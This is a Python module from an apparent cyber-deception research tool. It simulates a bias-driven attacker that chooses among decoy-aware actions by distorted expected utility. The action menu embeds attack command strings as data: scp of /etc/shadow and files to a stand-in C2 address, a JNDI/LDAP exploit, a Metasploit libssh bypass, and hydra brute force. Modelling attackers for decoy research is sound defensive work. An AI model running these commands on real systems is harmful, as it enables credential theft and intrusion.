"""Synthetic attacker: expected-utility policy distorted by five biases.

The action menu is derived from the scenario topology plus the decoy
artifacts of every installed trigger.  Rewards, detection and success
probabilities come from an :class:`ActionModel`, which is shared with the
defender side so both reason over the same technique vocabulary.
"""

import json
from dataclasses import dataclass, field, replace
from importlib import resources

import numpy as np

from .errors import SessionComplete, StateInconsistent, ValidationError
from .range_model import BIASES, ArtifactKind, BiasKind
from .cogvuln import lexical_salience

DEFAULT_BUDGET = 960.0
DISCOVERY_PREFIX = "discovery/"


# -- profiles ----------------------------------------------------------------

@dataclass(frozen=True)
class BiasProfile:
    susceptibility: dict = field(default_factory=lambda: {b: 0.0 for b in BIASES})
    lambda_sunk: float = 0.0
    recency_weight: float = 1.0
    prior_stickiness: float = 1.0
    salience_gain: float = 1.0
    loss_gain: float = 1.0

    def __post_init__(self):
        susc = {BiasKind(k): float(v) for k, v in self.susceptibility.items()}
        for b in BIASES:
            susc.setdefault(b, 0.0)
        object.__setattr__(self, "susceptibility", susc)
        for b, v in susc.items():
            if not 0.0 <= v <= 1.0:
                raise ValidationError(f"susceptibility[{b.value}]={v} outside [0,1]")
        if self.lambda_sunk < 0 or self.salience_gain < 0 or self.loss_gain < 0:
            raise ValidationError("lambda_sunk, salience_gain and loss_gain must be >= 0")
        for name in ("recency_weight", "prior_stickiness"):
            if not 0.0 <= getattr(self, name) <= 1.0:
                raise ValidationError(f"{name} outside [0,1]")

    def s(self, bias):
        return self.susceptibility[bias]

    @classmethod
    def zero(cls):
        return cls(lambda_sunk=0.0, recency_weight=0.0, prior_stickiness=0.0,
                   salience_gain=0.0, loss_gain=0.0)

    @classmethod
    def archetype(cls, bias, high=0.9, low=0.1, lambda_sunk=0.5):
        bias = BiasKind(bias)
        susc = {b: (high if b is bias else low) for b in BIASES}
        return cls(susceptibility=susc,
                   lambda_sunk=lambda_sunk if bias is BiasKind.SunkCost else 0.0)

    def dominant(self):
        """The unique most susceptible bias, or None."""
        top = max(self.susceptibility.values())
        winners = [b for b in BIASES if self.susceptibility[b] == top]
        return winners[0] if len(winners) == 1 else None

    def to_dict(self):
        return {
            "susceptibility": {b.value: self.susceptibility[b] for b in BIASES},
            "lambda_sunk": self.lambda_sunk,
            "recency_weight": self.recency_weight,
            "prior_stickiness": self.prior_stickiness,
            "salience_gain": self.salience_gain,
            "loss_gain": self.loss_gain,
        }

    @classmethod
    def from_dict(cls, d):
        return cls(**{**d, "susceptibility": dict(d.get("susceptibility", {}))})


# -- action model --------------------------------------------------------------

@dataclass(frozen=True)
class ActionSpec:
    technique_id: str
    target_host: str
    p_detect: float
    p_success: float
    reward: float
    time_cost: float
    uses_artifact: str | None = None
    command: str = ""
    key: str = ""
    lateral: bool = False
    source_host: str | None = None
    trigger_id: str | None = None

    def __post_init__(self):
        if not (0.0 <= self.p_detect <= 1.0 and 0.0 <= self.p_success <= 1.0):
            raise ValidationError(f"{self.key}: probabilities outside [0,1]")
        if self.time_cost <= 0:
            raise ValidationError(f"{self.key}: time_cost must be > 0")
        if self.reward < 0:
            raise ValidationError(f"{self.key}: reward must be >= 0")


@dataclass(frozen=True)
class ActionModel:
    """Per-technique costs plus the reward and success tables of the range.

    ``techniques`` maps technique id to ``{"p_detect", "time_cost"}``.
    """

    techniques: dict
    rewards: dict
    success: dict
    c2_address: str = "203.0.113.7"

    def p_detect(self, technique_id):
        return self.techniques[technique_id]["p_detect"]

    def time_cost(self, technique_id):
        return self.techniques[technique_id]["time_cost"]

    @classmethod
    def from_dict(cls, d):
        return cls(techniques=d["techniques"], rewards=d["rewards"], success=d["success"],
                   c2_address=d.get("c2_address", "203.0.113.7"))

    def to_dict(self):
        return {"techniques": self.techniques, "rewards": self.rewards,
                "success": self.success, "c2_address": self.c2_address}


def default_action_model():
    text = resources.files("cogdecoy").joinpath("data/action_model.json").read_text("utf-8")
    return ActionModel.from_dict(json.loads(text))


_DEFAULT_MODEL = None


def _model(model):
    global _DEFAULT_MODEL
    if model is not None:
        return model
    if _DEFAULT_MODEL is None:
        _DEFAULT_MODEL = default_action_model()
    return _DEFAULT_MODEL


# -- state ---------------------------------------------------------------------

@dataclass(frozen=True)
class HistoryEntry:
    time: float
    action: ActionSpec
    succeeded: bool


@dataclass
class AttackerState:
    foothold: str
    discovered: set
    tally: dict = field(default_factory=dict)
    sunk_cost: dict = field(default_factory=dict)
    preferred_technique: str | None = None
    history: list = field(default_factory=list)
    clock: float = 0.0
    budget: float = DEFAULT_BUDGET
    completed: set = field(default_factory=set)

    @classmethod
    def initial(cls, scenario, budget=DEFAULT_BUDGET):
        return cls(foothold=scenario.entry_host, discovered={scenario.entry_host}, budget=budget)

    def copy(self):
        return replace(
            self,
            discovered=set(self.discovered),
            tally=dict(self.tally),
            sunk_cost=dict(self.sunk_cost),
            history=list(self.history),
            completed=set(self.completed),
        )

    def last_outcome(self, technique_id):
        for entry in reversed(self.history):
            if entry.action.technique_id == technique_id:
                return 1.0 if entry.succeeded else 0.0
        return None


# -- menu ----------------------------------------------------------------------

def _active_trigger_artifacts(scenario, host):
    """Decoy artifacts on ``host`` whose trigger is installed, with trigger id."""
    installed = {t.trigger_id for t in scenario.triggers}
    out = []
    for art in host.artifacts:
        tid = next((t[len("trigger:"):] for t in art.salience_tags if t.startswith("trigger:")), None)
        if tid is None:
            continue
        if tid in installed:
            out.append((art, tid))
    return out


def _cidr(ip):
    return ip.rsplit(".", 1)[0] + ".0/24"


class _Menu:
    def __init__(self, state, scenario, model):
        self.state = state
        self.scenario = scenario
        self.m = model
        self.out = []

    def add(self, technique, target, reward, command, key, p_success=None, artifact=None,
            lateral=False, source=None, trigger_id=None, one_shot=True, time_cost=None,
            keep=False):
        if one_shot and key in self.state.completed:
            # nothing left to gain; only the foothold scan stays on the menu
            if not keep:
                return
            reward = 0.0
        if source is None and target != self.state.foothold:
            source = self.state.foothold
        self.out.append(ActionSpec(
            technique_id=technique,
            target_host=target,
            p_detect=self.m.p_detect(technique),
            p_success=1.0 if p_success is None else p_success,
            reward=reward,
            time_cost=time_cost if time_cost is not None else self.m.time_cost(technique),
            uses_artifact=artifact,
            command=command,
            key=key,
            lateral=lateral,
            source_host=source,
            trigger_id=trigger_id,
        ))


def enumerate_actions(state, scenario, model=None):
    """All actions open to the attacker, in deterministic order."""
    m = _model(model)
    if not scenario.has_host(state.foothold):
        raise StateInconsistent(f"foothold {state.foothold!r} not in scenario")
    remaining = state.budget - state.clock
    if remaining <= 0:
        return []
    R, P = m.rewards, m.success
    menu = _Menu(state, scenario, m)
    here = scenario.host(state.foothold)
    fh = here.host_id

    menu.add("discovery/network-service-scan", fh, R["scan"],
             f"nmap -sT -p- {_cidr(here.ip)}", f"scan@{fh}")
    if fh != scenario.entry_host:
        menu.add("discovery/account-discovery", fh, R["account_discovery"],
                 "getent group sudo", f"accounts@{fh}")
        menu.add("discovery/file-and-directory", fh, R["file_discovery"],
                 "ls -la /home /srv /opt", f"files@{fh}")
        menu.add("exfiltration/exfil-over-c2", fh, R["loot"],
                 f"scp /etc/shadow kali@{m.c2_address}:/loot/{fh}.shadow", f"loot@{fh}")
        for art in here.artifacts:
            if art.kind is ArtifactKind.file and art.grants_privilege:
                menu.add("exfiltration/exfil-over-c2", fh, R["exfil"],
                         f"scp /srv/{art.name} kali@{m.c2_address}:/loot/",
                         f"exfil:{art.name}@{fh}", artifact=art.name)

    on_path = scenario.on_path
    frontier = {}
    for src in sorted(state.discovered):
        for nb in scenario.neighbors(src):
            if nb not in state.discovered and nb not in frontier:
                frontier[nb] = src
    # prefer launching from the current foothold when it touches the target
    for nb in scenario.neighbors(fh):
        if nb in frontier:
            frontier[nb] = fh
    for target in sorted(frontier):
        h = scenario.host(target)
        if h.path_rank is not None:
            value = R["lateral_path_base"] + R["lateral_path_step"] * h.path_rank
        else:
            value = R["lateral_off_path"]
        tier = "path" if target in on_path else "off_path"
        menu.add("lateral-movement/remote-services", target, value,
                 f"ssh svc@{h.display_name}", f"ssh@{target}", p_success=P[f"ssh_{tier}"],
                 lateral=True, source=frontier[target], one_shot=False)
        menu.add("lateral-movement/exploitation-of-remote-services", target,
                 value + R["exploit_bonus"],
                 f"msfconsole -q -x 'use exploit/linux/ssh/libssh_auth_bypass; "
                 f"set RHOSTS {h.ip}; run'",
                 f"exploit@{target}", p_success=P[f"exploit_{tier}"],
                 lateral=True, source=frontier[target], one_shot=False)

    _trigger_actions(menu, state, scenario, m)

    return [a for a in menu.out if a.time_cost <= remaining]


def _trigger_actions(menu, state, scenario, m):
    R, P = m.rewards, m.success
    fh = state.foothold
    visible = [fh, *scenario.neighbors(fh)]
    for host_id in visible:
        host = scenario.host(host_id)
        local = host_id == fh
        for art, tid in _active_trigger_artifacts(scenario, host):
            kind = art.kind
            if kind is ArtifactKind.account and local:
                menu.add("privilege-escalation/valid-accounts", host_id, R["decoy_account"],
                         f"su {art.name}", f"su:{art.name}@{host_id}",
                         p_success=P["decoy_account"], artifact=art.name, trigger_id=tid)
                menu.add("discovery/permission-groups", host_id, R["verify"],
                         "sudo -l", f"verify@{host_id}", trigger_id=tid)
            elif kind is ArtifactKind.alias and local:
                menu.add("privilege-escalation/sudo-abuse", host_id, R["alias_loop"],
                         "sudo su -", f"sudo-su@{host_id}", p_success=P["alias_loop"],
                         artifact=art.name, trigger_id=tid, one_shot=False)
                menu.add("discovery/permission-groups", host_id, R["verify"],
                         f"type {art.name}", f"type:{art.name}@{host_id}", trigger_id=tid)
            elif kind is ArtifactKind.proxy_note:
                menu.add("credential-access/unsecured-credentials", host_id, R["note"],
                         f"curl -s http://{host.display_name}/{art.name}",
                         f"note:{art.name}@{host_id}", artifact=art.name, trigger_id=tid)
                if f"note:{art.name}@{host_id}" in state.completed and host_id not in state.discovered:
                    menu.add("privilege-escalation/valid-accounts", host_id,
                             R["found_credentials"], f"ssh protected-data@{host.display_name}",
                             f"creds@{host_id}", p_success=P["found_credentials"],
                             artifact=art.name, lateral=True, source=fh, trigger_id=tid,
                             one_shot=False)
                    menu.add("initial-access/exploit-public-facing", host_id, R["jndi_exploit"],
                             f"java -jar jndi-exploit.jar -u ldap://{m.c2_address}:1389 "
                             f"-t http://{host.display_name}:8983/solr",
                             f"jndi@{host_id}", p_success=P["jndi_exploit"], lateral=True,
                             source=fh, trigger_id=tid, one_shot=False)
            elif kind is ArtifactKind.service:
                menu.add("credential-access/brute-force", host_id, R["decoy_service"],
                         f"hydra -l operator -P rockyou.txt ssh://{host.ip}",
                         f"hydra:{art.name}@{host_id}", p_success=P["decoy_service"],
                         artifact=art.name, trigger_id=tid, one_shot=False)
                menu.add("discovery/network-service-scan", host_id, R["probe"],
                         f"nc -zv {host.ip} 22", f"probe:{art.name}@{host_id}", trigger_id=tid)
            elif kind is ArtifactKind.file:
                # decoy shares are readable from adjacent hosts as well
                where = "" if local else f"{host.display_name}:"
                menu.add("exfiltration/exfil-over-c2", host_id, R["decoy_file"],
                         f"scp {where}/srv/share/{art.name} kali@{m.c2_address}:/loot/",
                         f"exfil:{art.name}@{host_id}", artifact=art.name, trigger_id=tid)
                if local:
                    menu.add("discovery/file-and-directory", host_id, R["inspect"],
                             f"file /srv/share/{art.name}", f"inspect:{art.name}@{host_id}",
                             artifact=art.name, trigger_id=tid)


# -- utility -------------------------------------------------------------------

def est_success(a, state, profile):
    """Recency-distorted success estimate for the action's technique."""
    s, t = state.tally.get(a.technique_id, (0, 0))
    rate = s / t if t else 0.5
    last = state.last_outcome(a.technique_id)
    if last is None:
        last = 0.5
    r = profile.recency_weight * profile.s(BiasKind.BaseRateNeglect)
    return (1.0 - r) * rate + r * last


def salience_name(a, scenario=None):
    if a.uses_artifact:
        return a.uses_artifact
    if scenario is not None and scenario.has_host(a.target_host):
        return scenario.host(a.target_host).display_name
    return a.target_host


def biased_utility(a, state, profile, scenario=None, keywords=None):
    s = profile.s
    u = est_success(a, state, profile) * a.reward
    u -= (1.0 + profile.loss_gain * s(BiasKind.LossAversion)) * a.p_detect
    u -= a.time_cost / state.budget
    gain = profile.salience_gain * s(BiasKind.Availability)
    if gain:
        u += gain * lexical_salience(salience_name(a, scenario), keywords or _KEYWORDS)
    if state.preferred_technique is not None and a.technique_id == state.preferred_technique:
        u += profile.prior_stickiness * s(BiasKind.Confirmation)
    return u


_KEYWORDS = ("admin", "root", "master")


def undistorted_utility(a, state):
    s, t = state.tally.get(a.technique_id, (0, 0))
    rate = s / t if t else 0.5
    return rate * a.reward - a.p_detect - a.time_cost / state.budget


def continue_target(state, host, profile, expected_reward):
    """Sunk-cost continuation rule: keep going while ER >= -lambda * SC."""
    return expected_reward >= -profile.lambda_sunk * state.sunk_cost.get(host, 0.0)


# -- policy --------------------------------------------------------------------

def choose(menu, state, profile, scenario=None):
    """Argmax of biased utility; ties go to lowest technique then target."""
    best = None
    best_key = None
    for a in menu:
        u = biased_utility(a, state, profile, scenario)
        k = (-u, a.technique_id, a.target_host, a.key)
        if best_key is None or k < best_key:
            best, best_key = a, k
    return best


def _pursuit(menu, state, profile, scenario):
    """Restrict to retries of a failed attempt when the sunk-cost rule says so."""
    if not state.history or state.history[-1].succeeded:
        return menu
    failed = state.history[-1].action
    retries = [a for a in menu if a.key == failed.key]
    if not retries:
        return menu
    er = max(biased_utility(a, state, profile, scenario) for a in retries)
    if continue_target(state, failed.target_host, profile, er):
        return retries
    return menu


def step(state, scenario, profile, rng, model=None):
    """Advance one action.  Returns (new_state, chosen, succeeded)."""
    menu = enumerate_actions(state, scenario, model)
    if not menu:
        raise SessionComplete("no actions available")
    menu = _pursuit(menu, state, profile, scenario)
    chosen = choose(menu, state, profile, scenario)
    succeeded = bool(rng.random() < chosen.p_success)
    return apply_outcome(state, chosen, succeeded), chosen, succeeded


def apply_outcome(state, a, succeeded):
    new = state.copy()
    s, t = new.tally.get(a.technique_id, (0, 0))
    new.tally[a.technique_id] = (s + int(succeeded), t + 1)
    new.sunk_cost[a.target_host] = new.sunk_cost.get(a.target_host, 0.0) + a.time_cost + a.p_detect
    new.history.append(HistoryEntry(new.clock, a, succeeded))
    new.clock = min(new.budget, new.clock + a.time_cost)
    if succeeded:
        new.completed.add(a.key)
        if a.lateral:
            new.discovered.add(a.target_host)
            new.foothold = a.target_host
        if (new.preferred_technique is None
                and not a.technique_id.startswith(DISCOVERY_PREFIX)
                and new.tally[a.technique_id][0] >= 2):
            new.preferred_technique = a.technique_id
    return new


def run_session(scenario, profile, seed, budget=DEFAULT_BUDGET, model=None, max_steps=10_000):
    """Run the policy until the budget is spent.  Returns the final state."""
    rng = np.random.default_rng(seed)
    state = AttackerState.initial(scenario, budget)
    for _ in range(max_steps):
        try:
            state, _, _ = step(state, scenario, profile, rng, model)
        except SessionComplete:
            break
    return state
